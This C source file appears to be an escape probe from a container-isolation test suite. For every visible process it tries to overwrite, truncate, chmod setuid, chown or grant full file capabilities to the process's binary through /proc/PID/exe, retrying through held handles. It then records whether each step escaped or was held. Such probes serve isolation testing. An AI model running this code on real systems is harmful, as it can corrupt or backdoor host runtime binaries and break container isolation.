// overwrite [RETRY_MS]
//
// Tries to replace, truncate, chmod, chown or tag the binary of every other
// process it can see through /proc/PID/exe (but the container's own files):
// the runtime's, if any of its processes shows its own image. Handles that open O_PATH are kept and
// reopened for writing until RETRY_MS ms have passed (a running image is
// ETXTBSY; the classic attack waits for the runtime to exit).
#include "attack.h"
#include <sys/xattr.h>

static const char payload[] = "#!/bin/sh\necho PWNED-BY-THE-CONTAINER\n";

static int handles[256], handle_pid[256], nhandles;

// True when PID's image is a file of this container: the kernel's path of
// it, looked up here, is the same inode.
static int own_file(const char *p) {
    char l[4096];
    ssize_t n = readlink(p, l, sizeof l - 1);
    if (n < 0) return 0;
    l[n] = 0;
    struct stat a, b;
    return stat(p, &a) == 0 && stat(l, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static void attack(int pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    if (own_file(p)) {
        say("note %d runs a file of the container", pid);
        return;
    }
    int fd = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd >= 0) {
        ssize_t w = write(fd, payload, sizeof payload - 1);
        ESCAPE("exe-write-trunc", pid, "wrote %zd bytes", w);
        close(fd);
    } else {
        HELD("exe-write-trunc", pid);
    }
    fd = open(p, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        ssize_t w = pwrite(fd, payload, sizeof payload - 1, 0);
        ESCAPE("exe-write", pid, "wrote %zd bytes", w);
        close(fd);
    } else {
        HELD("exe-write", pid);
    }
    int r = truncate(p, 1);
    VERDICT(r, "exe-truncate", pid, "%s", p);
    r = chmod(p, 04777);
    VERDICT(r, "exe-chmod", pid, "%s", p);
    r = chown(p, getuid(), getgid());
    VERDICT(r, "exe-chown", pid, "%s", p);
    r = setxattr(p, "user.pwned", "1", 1, 0);
    VERDICT(r, "exe-setxattr-user", pid, "%s", p);
    // a v2 file capability blob granting everything
    unsigned int caps[5] = {0x02000001, 0xffffffff, 0, 0x3f, 0};
    r = setxattr(p, "security.capability", caps, sizeof caps, 0);
    VERDICT(r, "exe-setxattr-fcaps", pid, "%s", p);
    fd = open(p, O_PATH | O_CLOEXEC);
    if (fd >= 0 && nhandles < 256) {
        handle_pid[nhandles] = pid;
        handles[nhandles++] = fd;
    }
}

int main(int argc, char **argv) {
    long retry = argc > 1 ? atol(argv[1]) : 0;
    int pids[4096];
    int n = list_pids(pids, 4096);
    for (int i = 0; i < n; i++) {
        if (pids[i] == getpid()) continue;
        char comm[64];
        comm_of(pids[i], comm, sizeof comm);
        say("target %d %s", pids[i], comm);
        attack(pids[i]);
    }
    long deadline = now_ms() + retry;
    int tries = 0;
    do {
        for (int i = 0; i < nhandles; i++) {
            if (handles[i] < 0) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", handles[i]);
            int fd = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
            tries++;
            if (fd >= 0) {
                ssize_t w = write(fd, payload, sizeof payload - 1);
                ESCAPE("exe-handle-write", handle_pid[i], "wrote %zd bytes through a kept handle", w);
                close(fd);
                close(handles[i]);
                handles[i] = -1;
            }
        }
        if (nhandles) usleep(2000);
    } while (nhandles && now_ms() < deadline);
    say("note %d handles, %d reopen attempts", nhandles, tries);
    say("done");
    return 0;
}
